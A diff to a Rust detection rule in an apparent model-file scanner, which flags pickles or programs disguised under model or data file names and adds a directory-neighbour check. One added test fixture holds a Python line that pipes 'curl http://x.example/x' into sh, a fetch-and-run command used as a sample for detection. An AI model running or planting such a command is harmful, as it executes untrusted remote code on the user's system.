@@ -1,6 +1,6 @@
-use stance_core::Severity;
-use stance_core::fact::{AnomalyKind, Artifact, ArtifactFormat};
-use stance_inspect::zip;
+use stance_core::fact::{AnomalyKind, Artifact, ArtifactFormat, Fact};
+use stance_core::{Severity, Snapshot};
+use stance_inspect::{is_certain_model_name, says_model, zip};
 
 use crate::{Cx, Rule};
 
@@ -9,8 +9,9 @@ rule! {
     ///
     /// ## What it finds
     /// A pickle, a PyTorch checkpoint or an archive of models under the name of a format that runs nothing
-    /// (`.safetensors`, `.gguf`, `.onnx`, `.json`, `.png` and the like), and an executable program under
-    /// the name of a model.
+    /// (`.safetensors`, `.gguf`, `.onnx`, `.json`, `.png` and the like), and a program under the name of a model:
+    /// an executable, a class, compiled or written code that reaches out. Of names that firmware and other data
+    /// have as well (`.bin`, `.dat`) only those count that stand with models or in a path that says model.
     ///
     /// ## Why it matters
     /// People and filters trust the extension: a policy that admits only safetensors admits this file. Loaders
@@ -44,11 +45,16 @@ rule! {
             crate::made!("logo.png", torch),
             crate::made!("labels.txt", pickle),
             crate::made!("model.pt", program),
+            crate::made!("pytorch_model.bin", program),
+            crate::text!("model.h5", "import os\nos.system('curl http://x.example/x | sh')\n"),
         ],
         good: [
             crate::made!("model.pt", torch),
             crate::made!("model.bin", torch),
             crate::made!("notes.txt", zip_of_notes),
+            crate::made!("tools/busybox.bin", program),
+            crate::made!("tools/flasher.bin", program),
+            crate::text!("train.pt", "o modelo importa o sistema e avalia\n"),
         ],
     }
 }
@@ -56,6 +62,13 @@ rule! {
 impl Rule for NameMismatch {
     fn artifact(&self, artifact: &Artifact, cx: &mut Cx<'_>) {
         let path = &artifact.evidence.path;
+        let certain = artifact.format != ArtifactFormat::Other
+            || is_certain_model_name(path)
+            || says_model(path)
+            || has_models_beside(path, cx.snapshot());
+        if !certain {
+            return;
+        }
         if let Some((draft, _)) = cx.report_anomalies(artifact, AnomalyKind::NameMismatch)
             && (artifact.format == ArtifactFormat::Archive || path.ends_with(".npy"))
         {
@@ -63,6 +76,24 @@ impl Rule for NameMismatch {
             draft.severity(Severity::Medium);
         }
     }
+}
+
+/// Whether models lie in the directory of a file.
+fn has_models_beside(path: &str, snapshot: &Snapshot) -> bool {
+    let end = path.rfind('/').map_or(0, |slash| slash.saturating_add(1));
+    let directory = path.get(..end).unwrap_or_default();
+    let all = &snapshot.observations;
+    // They stand in order of their paths.
+    let start = all.partition_point(|observation| *observation.subject < *directory);
+    all.iter()
+        .skip(start)
+        .take_while(|observation| observation.subject.starts_with(directory))
+        .any(|observation| {
+            let inside = observation.subject.get(end..).unwrap_or_default();
+            matches!(&observation.fact, Fact::Artifact(artifact)
+                if !matches!(artifact.format, ArtifactFormat::Other | ArtifactFormat::Configuration | ArtifactFormat::Archive)
+                    && !inside.contains('/'))
+        })
 }
 
 fn torch() -> Vec<u8> {
